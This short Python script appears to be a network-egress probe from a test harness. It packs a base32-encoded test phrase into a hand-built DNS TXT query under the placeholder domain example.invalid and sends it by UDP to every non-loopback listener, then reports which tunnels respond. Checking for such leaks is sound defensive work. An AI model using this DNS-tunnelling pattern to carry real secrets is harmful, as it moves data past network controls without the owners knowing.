import base64

from ways import knock, listeners, report

secret = base64.b32encode(b"what the validator asked").decode().rstrip("=").lower()
query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + bytes([len(secret)]) + secret.encode() + b"\x07example\x07invalid\x00\x00\x10\x00\x01"
outside = [at for at in listeners() if not at["address"].startswith("127.")]
report({f"tunnel {at['address']}": knock(at["address"], at["udp"], "udp", query) for at in outside})
